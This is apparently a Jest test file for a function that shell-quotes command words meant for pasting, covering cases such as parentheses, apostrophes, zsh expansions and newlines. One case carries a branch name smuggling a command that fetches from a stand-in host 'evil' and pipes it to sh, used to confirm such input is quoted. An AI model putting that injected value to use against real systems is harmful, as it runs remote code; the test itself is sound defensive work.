// Commands to paste: what a shell would change is quoted; shell.process.test.ts lets a shell read them.
import { describe, expect, it } from '@jest/globals';
import { shellLine } from '../../src/commands/shell.ts';

describe('a command to paste', () => {
  it.each([
    ['plain words', ['docker', 'pull', 'a.test:5000/app:1_2-3@sha256:1'], 'docker pull a.test:5000/app:1_2-3@sha256:1'],
    ['a branch with parentheses', ['ci.yml@refs/heads/feat(x)'], "'ci.yml@refs/heads/feat(x)'"],
    ['a branch with a command', ['a@refs/heads/x;curl${IFS}evil|sh'], "'a@refs/heads/x;curl${IFS}evil|sh'"],
    ['a pattern', ['--regexp', '^https://github\\.com/acme/.*$'], "--regexp '^https://github\\.com/acme/.*$'"],
    ['an apostrophe', ["it's"], "'it'\\''s'"],
    ['an empty word', ['', 'x'], "'' x"],
    ['an expansion of zsh', ['=ls', 'a=b'], "'=ls' a=b"],
    ['the home of the user', ['~/key'], "'~/key'"],
    ['two lines', ['one\ntwo'], "'one\ntwo'"],
  ])('quotes %s if a shell would change them', (_, words, line) => {
    expect(shellLine(words)).toBe(line);
  });
});
